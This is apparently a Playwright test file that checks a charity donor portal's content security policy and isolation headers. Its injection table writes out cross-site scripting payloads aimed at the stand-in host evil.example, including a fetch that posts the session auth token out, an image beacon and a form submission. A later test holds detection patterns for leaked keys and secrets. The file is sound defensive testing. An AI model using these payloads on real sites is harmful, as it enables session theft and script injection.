import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { expect, originOf, test } from './fixtures.ts'
import { onlyLong } from './long.ts'

// How a browser applies the headers of src/server/http/security-headers.ts. e2e/page-checks shows that they block nothing that
// the portal itself needs: whatever a policy blocks appears as a console error, which fails those tests.

type Violation = { directive: string; blocked: string }

/** Collects the policy violations on this page and on every page that it opens from now on. */
async function watchPolicy(page: Page): Promise<() => Promise<Violation[]>> {
  const seen: Violation[] = []
  await page.exposeFunction('noteViolation', (violation: Violation) => void seen.push(violation))
  await page.addInitScript(`
    addEventListener('securitypolicyviolation', event =>
      noteViolation({ directive: event.effectiveDirective, blocked: event.blockedURI }))`)
  return async () => {
    // Wait for two turns of the page's event loop, so that pending events have arrived.
    await page.evaluate('new Promise(done => setTimeout(() => setTimeout(done)))')
    return seen.splice(0)
  }
}

test(
  'the API documentation works under its own policy, which allows no inline scripts either',
  onlyLong,
  async ({ visit }) => {
    const page = await visit('npt')
    const violations = await watchPolicy(page)
    await page.goto('/api/docs')
    // It renders every endpoint at once, which is slow on a small machine.
    await expect(page.getByText('/api/client-context').first()).toBeVisible({ timeout: 40_000 })
    expect((await violations()).filter(({ directive }) => directive.startsWith('script'))).toEqual([])
  },
)

/** What an attacker could try after finding a way to inject something into the page. */
const injections: Record<string, { script: string; directive: RegExp }> = {
  'a script in the page': {
    script: `const s = document.createElement('script'); s.text = 'window.broken = 1'; document.body.append(s)`,
    directive: /trusted-types|script/,
  },
  'a script of another site': {
    script: `const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)`,
    directive: /trusted-types|script/,
  },
  'markup from a string': {
    script: `document.body.innerHTML = '<img src=x onerror="window.broken = 1">'`,
    directive: /trusted-types/,
  },
  'a handler as an attribute': {
    script: `document.body.setAttribute('onclick', 'window.broken = 1'); document.body.click()`,
    directive: /trusted-types|script-src-attr/,
  },
  'code from a string': { script: `setTimeout('window.broken = 1')`, directive: /trusted-types|script/ },
  'a link that is a script': {
    script: `const a = document.createElement('a'); a.href = 'javascript:window.broken = 1'; document.body.append(a); a.click()`,
    directive: /trusted-types|script/,
  },
  'a policy of their own for trusted markup': {
    script: `trustedTypes.createPolicy('mine', { createHTML: markup => markup })`,
    directive: /trusted-types/,
  },
  'a style in the page': {
    script: `const s = document.createElement('style'); s.textContent = 'body { display: none }'; document.body.append(s)`,
    directive: /style-src/,
  },
  'a frame of another site': {
    script: `const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)`,
    directive: /frame-src/,
  },
  'an object': {
    script: `const o = document.createElement('object'); o.data = 'https://evil.example/'; document.body.append(o)`,
    directive: /trusted-types|object-src/,
  },
  'what it found, sent to another site': {
    script: `fetch('https://evil.example/', { method: 'POST', body: sessionStorage.getItem('almoner-auth-token') }).catch(() => 0)`,
    directive: /connect-src/,
  },
  'a picture that carries it away': {
    script: `new Image().src = 'https://evil.example/?' + document.title`,
    directive: /img-src/,
  },
  'a form to another site': {
    script: `const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit()`,
    directive: /form-action/,
  },
  'another base for addresses': {
    script: `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)`,
    directive: /base-uri/,
  },
}

test('injected content does not run, does not show and sends no data to another site', async ({
  signInAs,
  expectedErrors,
}) => {
  expectedErrors.push(/Content Security Policy|TrustedTypes?|Trusted|evil\.example/i)
  const page = await signInAs('donor', 'npt')
  const violations = await watchPolicy(page)
  await page.goto('/fund-activity')
  await expect(page.getByRole('heading', { level: 1, name: 'Fund Activity' })).toBeVisible()
  for (const [what, { script, directive }] of Object.entries(injections)) {
    // The script runs in the page itself, where the policies apply. It may throw, which is expected.
    await page.evaluate(`(() => { try { ${script} } catch {} })()`)
    // The browser reports some of them later: a form is submitted in a task of its own.
    const stopped: string[] = []
    await expect
      .poll(async () => {
        stopped.push(...(await violations()).map(violation => violation.directive))
        return stopped.join(' ')
      }, what)
      .toMatch(directive)
    expect(await page.evaluate('window.broken'), what).toBeUndefined()
    expect(new URL(page.url()).origin, what).toBe(originOf('npt'))
  }
  expect(await page.evaluate(`document.querySelector('h1').textContent`)).toBe('Fund Activity')
})

test('another site can neither frame the portal nor access its window', async ({ page, expectedErrors }) => {
  expectedErrors.push(/frame-ancestors|X-Frame-Options|refused|blocked/i)
  const portal = originOf('npt')
  // Another host on the same machine, so that only the portal's own headers stop it.
  const evil = portal.replace('//npt.', '//evil.')
  await page.route(`${evil}/`, route =>
    route.fulfill({
      contentType: 'text/html',
      body: `<iframe src="${portal}/"></iframe><button onclick="w = window.open('${portal}/')">open</button>`,
    }),
  )
  await page.goto(`${evil}/`)
  await expect.poll(() => page.frames().at(1)?.url()).toMatch(/^chrome-error:/)
  await page.getByRole('button').click()
  // The window exists, but its opener sees it as closed.
  expect(await page.evaluate('w === null')).toBe(false)
  await expect.poll(() => page.evaluate('w.closed')).toBe(true)
})

test('pages are isolated from other sites, and links send no referrer', async ({ signInAs }) => {
  const page = await signInAs('donor', 'npt')
  expect(await page.evaluate('crossOriginIsolated')).toBe(true)
  expect(await page.evaluate('originAgentCluster')).toBe(true)
  const features = (await page.evaluate(
    'document.featurePolicy.allowedFeatures().filter(name => /camera|microphone|geolocation|payment|usb|serial|hid/.test(name))',
  )) as string[]
  expect(features).toEqual([])
  await page.goto('/fund-activity')
  await page.goto('/')
  expect(await page.evaluate('document.referrer')).toBe('')
})

test('does not load a logo from another site, which could learn who views which charity', async ({
  signInAs,
  expectedErrors,
}) => {
  expectedErrors.push(/Content Security Policy/)
  const page = await signInAs('donor', 'npt')
  const elsewhere: string[] = []
  const hasOtherAccounts = (address: string) => new URL(address).origin !== originOf('npt')
  page.on('requestfinished', request => hasOtherAccounts(request.url()) && elsewhere.push(request.url()))
  page.on('requestfailed', request => {
    if (hasOtherAccounts(request.url())) elsewhere.push(`${request.url()}: ${request.failure()?.errorText}`)
  })
  await page.goto('/fund-activity?range=since-opening&open=2')
  await page.getByRole('table').getByRole('rowheader').getByRole('link').first().click()
  await expect(page.getByRole('heading', { name: 'Previous Grants To This Charity' })).toBeVisible()
  await page.evaluate(
    `new Promise(done => { const i = new Image(); i.onerror = done; i.src = 'https://logos.example/a.png' })`,
  )
  expect(elsewhere).toEqual(['https://logos.example/a.png: csp'])
})

test('the files that browsers receive contain no secret, no password and no source path', () => {
  const folder = new URL('../dist/web', import.meta.url).pathname
  // The build's own renderer is beside them, and is not sent: only the page and assets/ are.
  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter(
    file => file.isFile() && !file.parentPath.startsWith(`${folder}/renderer`),
  )
  expect(files.length).toBeGreaterThan(20)
  expect(files.filter(({ name }) => name.endsWith('.map'))).toEqual([])
  const never: Record<string, RegExp> = {
    'the password of the demonstration': /almoner-demo-2026/,
    'a setting of the server': /APP_SECRET|DATABASE_URL|SMTP_URL|DEMO_PASSWORD|TRUSTED_PROXIES/,
    'code of the server':
      /argon2|kysely|node:crypto|oidc-provider|graphile|set_config|almoner session token/i,
    'a map of the source': /sourceMappingURL/,
    'a path of the source': /\/node_modules\/|\bsrc\/(web|features|server|contract)\//,
    'a key': /-----BEGIN|\bAKIA[0-9A-Z]{16}\b|postgres(ql)?:\/\//,
  }
  for (const { parentPath, name } of files.filter(file => /\.(js|css|html|json)$/.test(file.name))) {
    const text = readFileSync(join(parentPath, name), 'utf8')
    expect(text.includes(process.cwd()), `${name}: a folder of this machine`).toBe(false)
    for (const [what, pattern] of Object.entries(never))
      expect(pattern.exec(text)?.[0], `${name}: ${what}`).toBeUndefined()
  }
})
